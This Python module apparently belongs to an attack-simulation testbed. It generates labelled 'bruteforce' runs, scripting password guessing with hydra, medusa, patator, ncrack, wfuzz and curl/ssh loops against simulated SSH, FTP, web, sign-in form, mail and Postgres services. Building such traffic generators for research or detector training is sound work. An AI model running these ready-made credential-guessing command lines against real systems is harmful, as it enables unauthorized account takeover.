"""Password guessing: at SSH, FTP, web pages, a sign-in form, mail and databases."""

from collections.abc import Callable
from pathlib import Path

from training.testbed.acts import Kind, Stage
from training.testbed.attackers.drawing import about, address, bracketed, guesses, one, pause

ASK = '#!/bin/sh\necho "$GUESS"\n'
WRONG = "wrong name or password"
"""What the sign-in form of the web server says."""
BASIC = "/private/"
FORM = "/login"


def book(stage: Stage) -> tuple[Path, list[str]]:
    """Write the words of this act to a file, one a line; return the file and the words."""
    words = guesses(stage, str(one(stage, "user")), about(stage, "tries"))
    path = stage.folder / "words"
    path.write_text("\n".join(words) + "\n")
    return path, words


def hydra(stage: Stage, service: str, extra: str = "", port: int = 0) -> None:
    """Guess with hydra, `threads` connections at a time, `wait` seconds between tries of one."""
    path, _ = book(stage)
    words = ["hydra", "-I", "-f", "-l", str(one(stage, "user")), "-P", str(path), "-t", str(one(stage, "threads"))]
    words += ["-w", "10"] + (["-W", str(one(stage, "wait"))] if one(stage, "wait") else [])
    words += ["-s", str(port)] if port else []
    words += ["-6"] if stage.settings["family"] == 6 else []
    stage.run(*words, address(stage), service, *([extra] if extra else []), limit_s=80, ok=None)


def medusa(stage: Stage, service: str, *extra: str) -> None:
    """Guess with medusa."""
    path, _ = book(stage)
    words = ["medusa", "-h", address(stage), "-u", str(one(stage, "user")), "-P", str(path), "-M", service, *extra]
    words += ["-t", str(one(stage, "threads")), "-f", "-b", "-r", "0", "-R", "0", "-T", "1"]
    stage.run(*words, limit_s=80, ok=None)


def patator(stage: Stage, service: str, *extra: str) -> None:
    """Guess with patator; `extra` are its module's own settings, FILE0 in them is the word."""
    path, _ = book(stage)
    words = ["patator", service, *extra, f"0={path}", "-t", str(one(stage, "threads")), "--max-retries", "0"]
    words += ["--rate-limit", str(one(stage, "wait"))] if one(stage, "wait") else []
    stage.run(*words, limit_s=80, ok=None)


def patator_web(stage: Stage, url: str, *extra: str) -> None:
    """Guess with patator at a web page; without a name to resolve its HTTP client refuses to work."""
    patator(stage, "http_fuzz", f"url={url}", *extra, f"resolve={stage.world.name('web')}:{address(stage)}")


def ncrack(stage: Stage, service: str) -> None:
    """Guess with ncrack."""
    path, _ = book(stage)
    words = ["ncrack", "-f", "-T", str(stage.rng.randint(3, 4)), "--user", str(one(stage, "user")), "-P", str(path)]
    words += ["-g", f"CL={one(stage, 'threads')},at=1,cr=1,to=60s"]
    stage.run(*words, f"{service.replace('HOST', address(stage))}", limit_s=80, ok=None)


def ssh_loop(stage: Stage) -> None:
    """Guess with the SSH client itself, one word after the other."""
    asked = stage.folder / "ask"
    asked.write_text(ASK)
    asked.chmod(0o700)
    options = ["StrictHostKeyChecking=no", "UserKnownHostsFile=/dev/null", "LogLevel=ERROR", "PubkeyAuthentication=no"]
    options += ["NumberOfPasswordPrompts=1", "ConnectTimeout=10"]
    words = ["ssh", "-F", "none", *(part for option in options for part in ("-o", option))]
    words += [f"{user(stage)}@{address(stage)}", "true"]
    for guess in book(stage)[1]:
        ask = {"SSH_ASKPASS": str(asked), "SSH_ASKPASS_REQUIRE": "force", "GUESS": guess}
        if stage.run(*words, env=ask, limit_s=20, ok=None).exit_code == 0:
            return
        pause(stage, "wait")


def curl_loop(stage: Stage, scheme: str, path: str) -> None:
    """Guess with curl, one word after the other, until one is right."""
    where, name = f"{scheme}://{bracketed(address(stage))}{path}", user(stage)
    for guess in book(stage)[1]:
        words = ["curl", "-s", "-k", "-f", "-g", "-o", "/dev/null", "--max-time", "15"]
        if stage.run(*words, "-u", f"{name}:{guess}", where, limit_s=20, ok=None).exit_code == 0:
            return
        pause(stage, "wait")


def user(stage: Stage) -> str:
    """Return whose password is guessed."""
    return str(one(stage, "user"))


def ssh(stage: Stage) -> None:
    """Guess at a shell."""
    where = address(stage)
    tools: dict[str, Callable[[], None]] = {
        "hydra": lambda: hydra(stage, "ssh"),
        "medusa": lambda: medusa(stage, "ssh"),
        "patator": lambda: patator(
            stage, "ssh_login", f"host={where}", f"user={user(stage)}", "password=FILE0", "-x", "ignore:mesg=failed"
        ),
        "ncrack": lambda: ncrack(stage, "ssh://HOST"),
        "ssh": lambda: ssh_loop(stage),
    }
    tools[one(stage, "tool")]()


def ftp(stage: Stage) -> None:
    """Guess at file transfer."""
    where = address(stage)
    tools: dict[str, Callable[[], None]] = {
        "hydra": lambda: hydra(stage, "ftp"),
        "medusa": lambda: medusa(stage, "ftp"),
        "patator": lambda: patator(stage, "ftp_login", f"host={where}", f"user={user(stage)}", "password=FILE0"),
        "ncrack": lambda: ncrack(stage, "ftp://HOST"),
        "curl": lambda: curl_loop(stage, "ftp", "/"),
    }
    tools[one(stage, "tool")]()


def http(stage: Stage) -> None:
    """Guess at a page with basic authentication."""
    url = f"http://{bracketed(address(stage))}{BASIC}"
    tools: dict[str, Callable[[], None]] = {
        "hydra": lambda: hydra(stage, "http-get", BASIC),
        "medusa": lambda: medusa(stage, "http", "-m", f"DIR:{BASIC}"),
        "patator": lambda: patator_web(stage, url, f"user_pass={user(stage)}:FILE0"),
        "ncrack": lambda: ncrack(stage, f"http://HOST:80,path={BASIC}"),
        "wfuzz": lambda: wfuzz(stage, "--basic", f"{user(stage)}:FUZZ", url),
        "curl": lambda: curl_loop(stage, stage.rng.choice(("http", "https")), BASIC),
    }
    tools[one(stage, "tool")]()


def wfuzz(stage: Stage, *words: str) -> None:
    """Guess with wfuzz, FUZZ in its words is the word."""
    path, _ = book(stage)
    pace = ["-t", str(one(stage, "threads"))] + (["-s", str(one(stage, "wait"))] if one(stage, "wait") else [])
    stage.run("wfuzz", *pace, "-z", f"file,{path}", *words, limit_s=80, ok=None)


def form(stage: Stage) -> None:
    """Guess at a sign-in form."""
    url = f"http://{bracketed(address(stage))}{FORM}"
    fields = f"user={user(stage)}&password="
    tools: dict[str, Callable[[], None]] = {
        "hydra": lambda: hydra(stage, "http-post-form", f"{FORM}:user=^USER^&password=^PASS^:F={WRONG}"),
        "patator": lambda: patator_web(stage, url, "method=POST", f"body={fields}FILE0", "-x", f"ignore:fgrep={WRONG}"),
        "wfuzz": lambda: wfuzz(stage, "--hs", WRONG, "-d", f"{fields}FUZZ", url),
    }
    tools[one(stage, "tool")]()


def mail(stage: Stage) -> None:
    """Guess at a mailbox (imap), or where mail is handed in (smtp)."""
    if one(stage, "service") == "smtp":
        hydra(stage, "smtp", "TLS", port=587)
    else:
        hydra(stage, "imap")


def database(stage: Stage) -> None:
    """Guess at a database."""
    hydra(stage, "postgres")


TOOLS = {
    "hydra": "hydra",
    "medusa": "medusa",
    "patator": "patator",
    "ncrack": "ncrack",
    "wfuzz": "wfuzz",
    "curl": "curl",
    "ssh": "openssh-client",
}
COMMON = {
    "tool": "hydra",
    "target": "web",
    "family": 4,
    "user": "guest",
    "tries": 20,  # median
    "threads": 4,  # connections at a time
    "wait": 0,  # seconds between tries; hydra and patator take whole ones, medusa and ncrack none
    "finds": 0.2,  # probability that the right password is in the second half of the list
}


def _kind(name: str, play: Callable[[Stage], None], tools: str, services: tuple[str, ...], **settings: object) -> Kind:
    return Kind(
        name=name,
        label="bruteforce",
        play=play,
        needs={tool: TOOLS[tool] for tool in tools.split()},
        services=services,
        lasts_s=15,
        limit_s=90,
        settings={**COMMON, **settings},
    )


KINDS = (
    _kind(
        "ssh-guessing", ssh, "hydra medusa patator ncrack ssh", ("shell-web", "shell-store"), target=["web", "store"]
    ),
    _kind("ftp-guessing", ftp, "hydra medusa patator ncrack curl", ("ftp",)),
    _kind("http-guessing", http, "hydra medusa patator ncrack wfuzz curl", ("web",), user=["admin", "guest"], tries=40),
    _kind("form-guessing", form, "hydra patator wfuzz", ("web",), user=["admin", "guest", "ada"], tries=40),
    _kind("mail-guessing", mail, "hydra", ("mail",), target="infra", service=["imap", "smtp"], tries=12),
    _kind("database-guessing", database, "hydra", ("postgres",), target="store"),
)
